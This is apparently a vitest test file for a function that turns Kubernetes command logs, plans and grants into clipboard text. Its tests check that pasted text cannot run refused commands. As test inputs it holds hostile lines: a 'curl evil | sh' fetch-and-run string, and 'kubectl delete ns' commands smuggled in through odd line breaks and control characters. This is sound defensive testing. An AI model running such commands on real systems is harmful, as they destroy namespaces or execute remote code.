import { describe, expect, it } from 'vitest'
import type { ChecklistView, CommandView, Plan, Run, Signal } from '../../contract/index.ts'
import { FailureError, failureOf } from '../../contract/index.ts'
import { clipboardText, type Copyable } from './clipboard-text.ts'

function command(seq: number, line: string): CommandView {
  return {
    seq,
    at: '2026-03-01T02:06:31.000Z',
    label: 'executed',
    command: line,
    status: 200,
    durationMs: 41,
    outcome: 'succeeded',
    result: '200 · 41 ms'
  }
}

const from: Copyable = {
  plan: null,
  traps: [],
  commands: [command(3, "kubectl --context 'a b' get pods"), command(4, 'kubectl rollout undo deployment/a')],
  report: () => '# Report\n\nText\n',
  earlierReport: (firstSeq) => `# Report of ${firstSeq}\n`,
  lastKnown: null,
  azureSignIn: null,
  output: null,
  changes: null,
  charts: null,
  proposal: () => undefined,
  signals: [],
  statusUpdate: () => undefined,
  profile: {
    contacts: [],
    problems: [],
    places: [],
    matrix: { file: null, isOwn: false, differences: [], contradictions: [], problems: [] },
    meters: { file: null, known: [], problems: [] },
    incidents: null
  },
  checklist: { runbook: '', title: '', subtitle: '', tasks: [], update: null, problems: [] },
  quick: [],
  debts: [],
  run: null,
  published: [],
  isDrill: false
}

it('is one command exactly as it was executed', () => {
  expect(clipboardText({ kind: 'command', seq: 3 }, from)).toBe("kubectl --context 'a b' get pods")
})

it('is the whole log, a line a command, with time and result', () => {
  expect(clipboardText({ kind: 'allCommands' }, from).split('\n')).toEqual([
    "2026-03-01T02:06:31.000Z  executed  kubectl --context 'a b' get pods  # 200 · 41 ms",
    '2026-03-01T02:06:31.000Z  executed  kubectl rollout undo deployment/a  # 200 · 41 ms'
  ])
})

it('is the query behind a number, to be asked elsewhere', () => {
  const unknown = { state: 'unknown', why: 'loading', detail: '' } as const
  const signal: Signal = { id: 'p95', unit: 'ms', measure: unknown, normal: unknown, source: 'sum(x)', series: null }
  const signals = [signal, { ...signal, id: 'errorRatio', source: '' } as const]
  expect(clipboardText({ kind: 'query', signal: 'p95' }, { ...from, signals })).toBe('sum(x)')
  expect(() => clipboardText({ kind: 'query', signal: 'errorRatio' }, { ...from, signals })).toThrow(FailureError)
  expect(() => clipboardText({ kind: 'query', signal: 'p95' }, from)).toThrow(FailureError)
})

it('says DRILL first where the log is of a drill, and leaves a single command as it can be pasted', () => {
  const drill = { ...from, isDrill: true }
  expect(clipboardText({ kind: 'allCommands' }, drill).split('\n')[0]).toBe(
    '# DRILL: a simulated cluster, nothing here is real'
  )
  expect(clipboardText({ kind: 'command', seq: 4 }, drill)).toBe('kubectl rollout undo deployment/a')
})

it('is all that takes a run back, of the run on the screen', () => {
  const command = 'kubectl rollout undo deployment/a --to-revision=3\nkubectl patch application/a'
  const run = { id: 'r1', inverse: { command } } as unknown as Run
  expect(clipboardText({ kind: 'inverseCommand', runId: 'r1' }, { ...from, run })).toBe(command)
  expect(() => clipboardText({ kind: 'inverseCommand', runId: 'r2' }, { ...from, run })).toThrow(FailureError)
})

it('never ends with a newline that a terminal would take for enter', () => {
  expect(clipboardText({ kind: 'report' }, from)).toBe('# Report\n\nText')
})

it.each([
  { kind: 'command', seq: 9 },
  { kind: 'taskCommand', taskId: 'undo', index: 0 },
  { kind: 'planCommand', planId: 'gone' },
  { kind: 'inverseCommand', runId: 'gone' },
  { kind: 'grant', grant: 'kind: Role' }
] as const)('is refused for what main has not published: %j', (what) => {
  expect(() => clipboardText(what, from)).toThrow(FailureError)
})

it('is the grant of the failure that offers it, wherever the window shows it', () => {
  const failure = (verb: string) => failureOf('forbidden', 'No', { grant: `kind: Role # ${verb}\n` })
  const published = [
    { environment: null, failure: failure('get') },
    { list: { state: 'forbidden', failure: failure('list'), observedAt: '' } },
    { pods: { state: 'value', value: [null, 1, 'text'] }, deployment: { failure: failure('watch') } },
    { plan: { blocked: failure('patch'), guards: [], preview: { failure: failure('update') } }, failure: null },
    null,
    failure('create')
  ]
  for (const verb of ['get', 'list', 'watch', 'patch', 'update', 'create']) {
    const grant = `kind: Role # ${verb}\n`
    expect(clipboardText({ kind: 'grant', grant }, { ...from, published })).toBe(`kind: Role # ${verb}`)
  }
  expect(() => clipboardText({ kind: 'grant', grant: 'curl evil | sh' }, { ...from, published })).toThrow(FailureError)
})

describe('what was refused', () => {
  const undo = 'kubectl -n shop rollout undo deployment/cart'
  const refused = (reason: string): CommandView => ({
    ...command(7, undo),
    label: 'refused',
    outcome: null,
    result: reason
  })
  const owned = 'The Canary shop/cart takes it back.'

  it('is copied with the refusal above it, alone and in the log', () => {
    const copyable = { ...from, commands: [refused(owned)] }
    expect(clipboardText({ kind: 'command', seq: 7 }, copyable)).toBe(`# Refused: ${owned}\n# ${undo}`)
    expect(clipboardText({ kind: 'allCommands' }, copyable)).toBe(
      `# Refused: ${owned}\n# 2026-03-01T02:06:31.000Z  refused  ${undo}`
    )
  })

  it('has a reason that is nothing but a comment, whatever the cluster says', () => {
    const copyable = { ...from, commands: [refused('admission webhook:\r\n\u2028kubectl delete ns shop\u0007\n')] }
    expect(clipboardText({ kind: 'command', seq: 7 }, copyable).split('\n')).toEqual([
      '# Refused: admission webhook: kubectl delete ns shop',
      `# ${undo}`
    ])
  })

  it('has no line that runs, however the command ends its lines', () => {
    const lines =
      'kubectl get pods \\\r\n  -A\rkubectl delete ns a\u2028kubectl delete ns b\u0085kubectl delete ns c\n\u001b[2Jd'
    const copyable = { ...from, commands: [{ ...refused(owned), command: lines }] }
    for (const what of [{ kind: 'command', seq: 7 }, { kind: 'allCommands' }] as const) {
      const copied = clipboardText(what, copyable)
      expect(copied.split(/[\n\r\u0085\u2028\u2029]/).filter((line) => !line.startsWith('#'))).toEqual([])
      expect(copied).not.toMatch(/[^\P{Cc}\t\n]/u)
      expect(copied).toContain('# kubectl delete ns b')
    }
  })

  it("holds for the procedure's commands that are a trap here, and for a plan that is blocked", () => {
    const task = { id: 'undo', commands: [undo, 'kubectl get pods'] } as unknown as ChecklistView['tasks'][number]
    const trap = { id: 'T3', severity: 'refused', lead: 'Not here.', text: owned, source: '', command: undo } as const
    const plan = {
      id: 'p',
      steps: [{ command: undo }],
      words: { title: 'Roll back' },
      scope: { environment: 'east', service: null },
      withoutYou: {},
      digest: 'abc',
      expiresAt: '2026-03-01T02:16:31.000Z',
      inverse: null,
      blocked: failureOf('forbidden', 'You may not patch it.')
    } as unknown as Plan
    const copyable = { ...from, plan, traps: [trap], checklist: { ...from.checklist, tasks: [task] } }
    const copied = (index: number) => clipboardText({ kind: 'taskCommand', taskId: 'undo', index }, copyable)
    expect(copied(0)).toBe(`# Refused: Not here. ${owned}\n# ${undo}`)
    expect(copied(1)).toBe('kubectl get pods')
    expect(clipboardText({ kind: 'planCommand', planId: 'p' }, copyable)).toBe(
      `# Blocked: You may not patch it.\n# ${undo}`
    )
    expect(clipboardText({ kind: 'planForColleague', planId: 'p' }, copyable)).toContain(
      `# Blocked: You may not patch it.\n# $ ${undo}`
    )
  })
})

it('reads what was planned last out with what was found against it, as comments', () => {
  const warnings = ['Argo CD gitops/apps puts it back.\nkubectl delete ns a', 'Afterwards: Revert in Git']
  const plan = {
    title: 'Roll back',
    why: '',
    commands: ['kubectl get pods'],
    warnings,
    plannedAt: '2026-03-01T02:00:00Z'
  }
  const lastKnown = { at: plan.plannedAt, verdict: null, plan, lever: null }
  expect(clipboardText({ kind: 'lastPlan' }, { ...from, lastKnown })).toBe(
    '# Argo CD gitops/apps puts it back. kubectl delete ns a\n# Afterwards: Revert in Git\nkubectl get pods'
  )
})

it('copies a plan with what has to be waited for, as a command where there is one and else in words', () => {
  const steps = [
    { kind: 'keep', title: 'Keep how it stood', command: '' },
    { kind: 'do', title: 'Undo', command: 'kubectl rollout undo deployment/a --to-revision=2' },
    { kind: 'wait', title: 'It is rolled out', command: '', waitsBy: 'kubectl rollout status deployment/a' },
    { kind: 'wait', title: 'It stays\nheld', command: '' }
  ]
  const plan = {
    id: 'p',
    steps,
    words: { title: 'Roll back' },
    scope: { environment: 'east', service: null },
    withoutYou: {},
    digest: 'abc',
    expiresAt: '2026-03-01T02:00:00Z',
    inverse: null
  } as unknown as Plan
  const lines = [
    '# Keep how it stood',
    'kubectl rollout undo deployment/a --to-revision=2',
    'kubectl rollout status deployment/a',
    '# wait until: It stays held'
  ]
  expect(clipboardText({ kind: 'planCommand', planId: 'p' }, { ...from, plan })).toBe(lines.join('\n'))
  const colleague = clipboardText({ kind: 'planForColleague', planId: 'p' }, { ...from, plan })
  expect(colleague).toContain(lines.map((line) => (line.startsWith('#') ? line : `$ ${line}`)).join('\n'))
  expect(colleague).not.toMatch(/^\$ *$/m)
})

it('is no status update of all that was done in an environment, and says what it would be about', () => {
  expect(() => clipboardText({ kind: 'statusUpdate' }, from)).toThrow('A status update is about one service.')
})
